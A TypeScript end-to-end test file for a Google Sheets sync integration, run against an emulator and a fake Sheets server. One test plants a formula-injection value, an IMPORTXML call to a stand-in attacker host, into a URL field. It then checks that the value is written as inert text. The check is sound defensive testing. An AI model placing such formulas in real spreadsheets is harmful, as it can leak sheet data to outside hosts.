/**
 * End to end with Google Sheets the emulator for TokPortal, the fake Sheets server for the
 * sheet, the real @googleapis/sheets client in between. Every count of Sheets requests is read from the
 * fake's own log.
 */
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { GoogleSheetsSource } from "../../src/sources/google-sheets.ts";
import { SheetsRateLimiter } from "../../src/sources/sheets-limiter.ts";
import type { RunReport } from "../../src/sync/types.ts";
import { type CsvRunOptions, seedCampaignSheet, syncSource } from "../support/campaign.ts";
import { sharedEmulator } from "../support/emulator.ts";
import type { CellValue } from "../support/fake-sheets/cells.ts";
import { ManualClock } from "../support/fake-sheets/clock.ts";
import { type FakeSheets, startFakeSheets } from "../support/fake-sheets/server.ts";

const ID = "campaign";
const emu = sharedEmulator();
let fake: FakeSheets;
let clock: ManualClock;
let limiter: SheetsRateLimiter;

beforeEach(async () => {
  clock = new ManualClock();
  fake = await startFakeSheets({ now: () => clock.now() });
  limiter = new SheetsRateLimiter({ clock });
});
afterEach(async () => {
  emu.setFaults({});
  await fake.close();
});

const WRITE_OPS = new Set([
  "values.batchUpdate",
  "values.update",
  "spreadsheets.batchUpdate",
  "values.batchClear",
]);

function seedSheet(bundles: number, videosPerBundle: number): void {
  seedCampaignSheet(fake, ID, { bundles, videosPerBundle, startDate: "2026-09-10" });
}

/** Rows of a tab as header → cell (formatted, as a user sees them). */
function records(title: string): Record<string, CellValue>[] {
  const [header = [], ...rows] = fake.values(ID, title, "FORMATTED_VALUE");
  return rows.map((row) => Object.fromEntries(header.map((h, i) => [String(h), row[i] ?? ""])));
}

async function sync(o: CsvRunOptions = {}): Promise<RunReport> {
  const source = new GoogleSheetsSource({
    spreadsheetId: ID,
    bundlesTab: "bundles",
    videosTab: "videos",
    rootUrl: fake.rootUrl,
    auth: { apiKey: "test-key" },
    limiter,
    clock,
    retry: { random: () => 0 },
  });
  return syncSource(emu, source, o);
}

async function advanceTo(iso: string): Promise<void> {
  await emu.advance((Date.parse(iso) - emu.clock.now()) / 1000);
}

const slotsByRef = () =>
  new Map(
    Object.values(emu.state().bundles).flatMap((b) =>
      b.videos.map((v) => [`${b.external_ref!.slice(2)}/${v.external_ref}`, v] as const),
    ),
  );

describe("a Google Sheet followed over the emulator's clock", () => {
  it("fills statuses, platform_url (as text, never a formula) and numbers; a run with nothing new writes nothing", async () => {
    seedSheet(2, 2);
    const first = await sync();
    expect(first.counts.synced).toBe(6);

    await advanceTo("2026-09-14T00:00:00.000Z");
    const planted = '=IMPORTXML("https://evil.example/","//a")';
    const slot = slotsByRef().get("c02/c02-v1")!;
    slot.platform_url = planted;

    fake.clearLog();
    const second = await sync();
    expect(second.analytics).toEqual({ source: "export", calls: 1 });
    // Every changed cell of both tabs in one write request.
    expect(fake.requests("values.batchUpdate")).toHaveLength(1);

    const slots = slotsByRef();
    const rows = records("videos");
    expect(rows).toHaveLength(4);
    for (const r of rows) {
      const v = slots.get(`${r["bundle_ref"]}/${r["video_ref"]}`)!;
      expect(r["video_status"]).toBe(v.status);
      expect(["in_review", "finalized"]).toContain(v.status);
      expect(r["platform_url"]).toBe(v.platform_url);
      expect(Number(r["views"])).toBeGreaterThan(0);
      expect(r["sync_status"]).toBe("synced");
    }
    // RAW: the planted text is a text cell, not a formula Sheets would run.
    const header = fake.values(ID, "videos")[0]!.map(String);
    const row = rows.findIndex((r) => r["video_ref"] === "c02-v1") + 2;
    const column = String.fromCharCode(65 + header.indexOf("platform_url"));
    expect(fake.cell(ID, "videos", row, column)).toEqual({ t: "s", v: planted });

    fake.clearLog();
    const third = await sync();
    expect(third.write).toEqual({ cellsWritten: 0, requests: 0, rowsNotFound: 0 });
    expect(fake.log.filter((e) => WRITE_OPS.has(e.op))).toEqual([]);
  });

  it("writes into the right rows after rows were inserted and the tab sorted during the run", async () => {
    seedSheet(2, 3);
    let edited = false;
    const report = await sync({
      concurrency: 1,
      // While TokPortal is being called (after the read, before the write), a user edits the sheet.
      onProgress: () => {
        if (edited) return;
        edited = true;
        fake.insertRows(ID, "videos", 2, [["x-1", "zz", "", "", "a row typed meanwhile"]]);
        fake.insertRows(ID, "bundles", 2, [["zz-new", "", "", "", "typed meanwhile"]]);
        fake.sortRows(ID, "videos", "E", "desc");
        fake.sortRows(ID, "bundles", "E", "desc");
      },
    });
    expect(edited).toBe(true);
    expect(report.write?.rowsNotFound).toBe(0);

    const world = new Map(Object.values(emu.state().bundles).map((b) => [b.external_ref!.slice(2), b]));
    const bundles = records("bundles");
    expect(bundles.map((r) => r["bundle_ref"])).toEqual(["zz-new", "c02", "c01"]);
    for (const r of bundles) {
      if (r["bundle_ref"] === "zz-new") {
        expect(r["bundle_id"]).toBe("");
        expect(r["sync_status"]).toBe("");
        continue;
      }
      expect(r["bundle_id"]).toBe(world.get(String(r["bundle_ref"]))!.id);
      expect(r["title"]).toBe(`Campaign account ${r["bundle_ref"]}`);
    }
    const slots = slotsByRef();
    const videos = records("videos");
    // Sorted by description, descending: the last bundle's last look comes first now.
    expect(videos[0]!["video_ref"]).toBe("c02-v3");
    const typed = videos.find((r) => r["video_ref"] === "x-1")!;
    expect(typed["video_id"]).toBe("");
    expect(typed["sync_status"]).toBe("");
    for (const r of videos.filter((v) => v !== typed)) {
      const v = slots.get(`${r["bundle_ref"]}/${r["video_ref"]}`)!;
      expect(r["video_id"]).toBe(v.id);
      expect(String(r["position"])).toBe(String(v.position));
      expect(r["description"]).toBe(v.description);
    }
  });
});
